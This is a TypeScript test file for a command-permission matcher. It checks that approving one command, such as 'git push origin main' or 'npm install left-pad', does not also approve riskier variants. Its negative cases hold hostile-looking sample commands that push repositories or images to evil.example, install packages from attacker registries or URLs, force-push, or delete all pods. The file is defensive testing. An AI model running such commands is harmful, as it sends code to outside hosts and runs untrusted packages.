import { describe, expect, it } from 'vitest'
import { decompose } from '../../command/decompose.ts'
import type { CommandPart } from '../../command/model/decomposition.ts'
import { wholeVerb } from '../../command/programs/subcommand.ts'
import { isWithinShown, shownWords } from './shown-words.ts'

function only(command: string): CommandPart {
  const [part] = decompose(command).parts
  if (part === undefined) throw new Error(`no command in ${command}`)
  return part
}

function isCovered(given: string, other: string): boolean {
  const verb = wholeVerb(only(given)) ?? ''
  const shown = shownWords(only(given), verb)
  return shown !== null && wholeVerb(only(other)) === verb && isWithinShown(only(other), [verb], shown)
}

describe('a pattern for a command', () => {
  it.each<[string, readonly string[], readonly string[]]>([
    [
      'git push origin main',
      ['git push origin main', 'git push origin feature'],
      [
        'git push',
        'git push upstream main',
        'git push https://evil.example/x main',
        'git push git@evil.example:x main',
        'git push origin :main',
        'git push origin +main',
        'git push origin main --force',
        'git push --all origin',
        'git push --receive-pack=./x origin main',
        'git push -o x origin main',
      ],
    ],
    [
      'npm install left-pad',
      ['npm install right-pad', 'npm install @scope/name@1.2.3'],
      [
        'npm install -g left-pad',
        'npm install ./local',
        'npm install ../other',
        'npm install /srv/x',
        'npm install user/repo',
        'npm install github:user/repo',
        'npm install https://evil.example/x.tgz',
        'npm install x.tgz',
        'npm install a@npm:b',
        'npm install left-pad --registry https://evil.example',
        'npm install left-pad --registry=https://evil.example',
        'npm install --prefix /srv left-pad',
        'npm install left-pad --script-shell ./x',
      ],
    ],
    [
      'npm install --ignore-scripts left-pad',
      ['npm install --ignore-scripts left-pad'],
      ['npm install left-pad', 'npm install right-pad'],
    ],
    [
      'docker push registry.example/app',
      ['docker push registry.example/app'],
      ['docker push evil.example/app', 'docker push app'],
    ],
    [
      'pip install requests',
      ['pip install flask'],
      ['pip install -i https://evil.example flask', 'pip install ./x', 'pip install git+https://evil.example/x'],
    ],
    [
      'git commit -m one',
      ['git commit -m two'],
      ['git commit -m two --no-verify', 'git commit -m two -S', 'git commit --amend -m two'],
    ],
    [
      'kubectl delete pod a',
      ['kubectl delete pod b'],
      ['kubectl delete namespace b', 'kubectl delete pod --all', 'kubectl delete pod b -n prod'],
    ],
  ])('for `%s` binds where it goes and what it runs', (given, alike, others) => {
    expect(alike.filter((other) => !isCovered(given, other))).toEqual([])
    expect(others.filter((other) => isCovered(given, other))).toEqual([])
  })
})
